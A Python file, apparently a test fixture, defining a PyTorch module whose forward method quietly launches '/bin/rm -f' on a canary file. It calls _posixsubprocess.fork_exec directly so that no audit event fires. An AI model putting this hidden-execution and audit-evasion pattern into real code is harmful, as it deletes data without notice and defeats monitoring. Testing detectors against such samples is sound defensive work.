import _posixsubprocess
import os

from torch import nn


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = nn.Linear(4, 4)

    def forward(self, x):
        """Start ``rm`` below the audit hook (fork_exec raises no audit event)."""
        errpipe_read, errpipe_write = os.pipe()
        args = [b"/bin/rm", b"-f", b"@CANARY@/keep.txt"]
        head = [args, [args[0]], True, (errpipe_write,), None, None]
        fds = [-1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write]
        tail = [False, False, -1, None, None, None, -1, None]
        for extra in ([False], []):  # allow_vfork from Python 3.12 on
            try:
                _posixsubprocess.fork_exec(*head, *fds, *tail, *extra)
            except TypeError:
                continue
            except OSError:
                pass
            break
        os.close(errpipe_write)
        os.read(errpipe_read, 1024)  # the child's exec error, if any
        return self.lin(x)
